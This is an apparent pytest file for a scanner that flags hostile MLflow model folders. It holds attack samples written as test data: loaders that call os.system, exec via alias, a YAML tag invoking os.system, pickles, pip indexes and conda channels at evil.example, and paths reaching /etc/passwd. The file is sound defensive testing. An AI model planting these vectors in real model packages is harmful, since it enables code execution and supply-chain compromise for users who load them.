"""What MLflow would run or fetch: each hostile kind of folder is told, and folders as MLflow writes them are known."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from aispm_nb.inspection.inspector import Inspection, inspect

from . import made

CONDA = {
    "channels": ["conda-forge"],
    "dependencies": ["python=3.11", "pip<=24", {"pip": ["mlflow==3.17.2", "scikit-learn==1.9.1"]}],
}
ENV = {
    "python": "3.11.9",
    "build_dependencies": ["pip==24.0", "setuptools", "wheel==0.43"],
    "dependencies": ["-r requirements.txt"],
}


def model(**changes: Any) -> dict[str, Any]:
    python = {"loader_module": "mlflow.sklearn", "model_path": "model.skops", "env": {"conda": "conda.yaml", "virtualenv": "python_env.yaml"},
              "predict_fn": "predict", "python_version": "3.11.9"} | changes.pop("python", {})  # fmt: skip
    own = {"pickled_model": "model.skops", "serialization_format": "skops", "sklearn_version": "1.9.1"} | changes.pop(
        "own", {}
    )
    return {
        "flavors": {"python_function": python, "sklearn": own},
        "model_uuid": "x",
        "mlflow_version": "3.17.2",
    } | changes


def write(folder: Path, content: dict[str, Any] | str, **files: bytes | str | dict[str, Any]) -> Inspection:
    skops = made.skops({"weights": [1.0, 2.0]})
    base: dict[str, bytes | str | dict[str, Any]] = {"conda.yaml": CONDA, "python_env.yaml": ENV, "model.skops": skops,
                                                     "requirements.txt": "mlflow==3.17.2\nscikit-learn==1.9.1\n"}  # fmt: skip
    for name, value in (base | files | {"MLmodel": content}).items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        text = yaml.safe_dump(value) if isinstance(value, dict) else value
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return inspect(folder)


def test_as_written(tmp_path: Path) -> None:
    found = write(tmp_path, model())
    assert found.verdict == "known", found


OWN = model(python={"code": "code", "loader_module": "own"})
PYTHON = "import os\ndef _load_pyfunc(path):\n    return run(path)\ndef run(x):\n    os.system(x)\n"
FLASK = "import requests\nclass M:\n    def predict(self, x):\n        return requests.get(x)\n"
HOSTILE: dict[str, tuple[dict[str, Any] | str, dict[str, Any], str, str]] = {
    # what is in MLmodel, further files, the verdict, and a word of the reason
    "loader of its own": (OWN, {"code/own.py": PYTHON}, "dangerous", "own.py calls it"),
    "loader of nobody": (model(python={"loader_module": "whatever"}), {}, "unknown", "_load_pyfunc"),
    "loader os": (model(python={"loader_module": "os"}), {}, "dangerous", "_load_pyfunc"),
    "code on import": (model(python={"code": "code"}), {"code/a/b.py": "import subprocess as s\ns.run(['id'])\n"}, "dangerous", "b.py calls it"),
    "code by getattr": (model(python={"code": "code"}), {"code/a.py": "getattr(__import__('os'), 'system')('id')\n"}, "dangerous", "a.py"),
    "code by alias": (model(python={"code": "code"}), {"code/a.py": "e = exec\ne('1')\n"}, "dangerous", "a.py"),
    "code that shadows": (model(python={"code": "code"}), {"code/numpy/__init__.py": ""}, "dangerous", "takes the place"),
    "harmless code": (model(python={"code": "code"}), {"code/a.py": FLASK}, "unknown", "in front of Python's path"),
    "model from code": (model(python={"model_code_path": "m.py"}), {"m.py": "import os\nos.popen('id')\n"}, "dangerous", "m.py calls it"),
    "harmless model from code": (model(python={"model_code_path": "/home/a/m.py"}), {"m.py": FLASK}, "unknown", "runs this file on load"),
    "pickle": (model(python={"python_model": "python_model.pkl"}), {"python_model.pkl": made.harm()}, "dangerous", "os.system"),
    "channel": (model(), {"conda.yaml": CONDA | {"channels": ["https://evil.example/conda"]}}, "unknown", "channel"),
    "channel over http": (model(), {"conda.yaml": CONDA | {"channels": ["http://evil.example/conda"]}}, "dangerous", "channel"),
    "index": (model(), {"requirements.txt": "--extra-index-url http://evil.example/simple\nmlflow\n"}, "dangerous", "installed"),
    "address": (model(), {"requirements.txt": "x @ https://evil.example/x.whl\n"}, "unknown", "past every index"),
    "repository": (model(), {"requirements.txt": "git+https://github.com/evil/x\n"}, "unknown", "past every index"),
    "index in conda": (model(), {"conda.yaml": {"dependencies": [{"pip": ["--index-url https://evil.example/simple"]}]}}, "unknown", "installed"),
    "trusted host": (model(), {"requirements.txt": "--trusted-host evil.example\n"}, "dangerous", "without checking"),
    "builds": (model(), {"python_env.yaml": ENV | {"build_dependencies": ["pip", "evil-build"]}}, "unknown", "installed first"),
    "tags": ("flavors: !!python/object/apply:os.system ['id']\n", {}, "dangerous", "YAML loader"),
    "path up": (model(python={"data": "../../secret"}), {}, "dangerous", "leads out of the folder"),
    "path absolute": (model(own={"pickled_model": "/etc/passwd"}), {}, "dangerous", "leads out of the folder"),
    "artifact up": (model(python={"artifacts": {"a": {"path": "../x", "uri": "/tmp/x"}}}), {}, "dangerous", "leads out of the folder"),
    "program": (model(), {"helper.py": "x = 1\n"}, "unknown", "does not name it"),
    "library": (model(), {"lib/x.so": b"\x7fELF" + bytes(60)}, "dangerous", "machine code"),
    "start": (model(python={"code": "code"}), {"code/x.pth": "import os\n"}, "dangerous", "every start"),
    "trusted types": (model(own={"skops_trusted_types": ["os.system"]}), {}, "dangerous", "asks skops to trust"),
    "trusted strangers": (model(own={"skops_trusted_types": ["own.Thing"]}), {}, "unknown", "asks skops to trust"),
    "downgrade in bytes": (model(), {"model.skops": made.harmless()}, "unknown", "its bytes are a pickle"),
    "downgrade in words": (model(own={"serialization_format": "cloudpickle"}), {}, "unknown", "loads it as cloudpickle"),
    "not plain": ("a: *b\n", {}, "unknown", "cannot be read plainly"),
    "remote code": (model(), {"model/config.json": '{"auto_map": {"AutoModel": "evil/x--y.Z"}}'}, "dangerous", "another repository"),
}  # fmt: skip


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile(tmp_path: Path, kind: str) -> None:
    content, files, verdict, said = HOSTILE[kind]
    found = write(tmp_path, content, **files)
    assert found.verdict == verdict, found
    assert any(said in row.why and row.verdict == verdict for row in found), found


def test_folders_within(tmp_path: Path) -> None:
    write(tmp_path / "a" / "b", *HOSTILE["loader os"][:1])
    assert any(row.path == "a/b/MLmodel" and row.verdict == "dangerous" for row in inspect(tmp_path))


@pytest.mark.parametrize("content", ["flavors: 3", "flavors: {python_function: 3}", "flavors: {a: {code: [1], loader_module: {}}}", "", "- 1",
                                     "flavors: {python_function: {code: code, model_code_path: [x], skops_trusted_types: {a: b}}}"])  # fmt: skip
def test_odd_mlmodels(tmp_path: Path, content: str) -> None:
    assert write(tmp_path, content) is not None


def test_real_models(tmp_path: Path) -> None:
    import mlflow
    from sklearn.linear_model import LinearRegression

    fitted = LinearRegression().fit([[0.0], [1.0]], [0, 1])
    pinned = {"pip_requirements": ["mlflow==3.17.2", "scikit-learn==1.9.1"]}
    for form in ("skops", "cloudpickle"):
        mlflow.sklearn.save_model(fitted, tmp_path / form, serialization_format=form, **pinned)
        found = inspect(tmp_path / form)
        assert found.verdict == "known", found
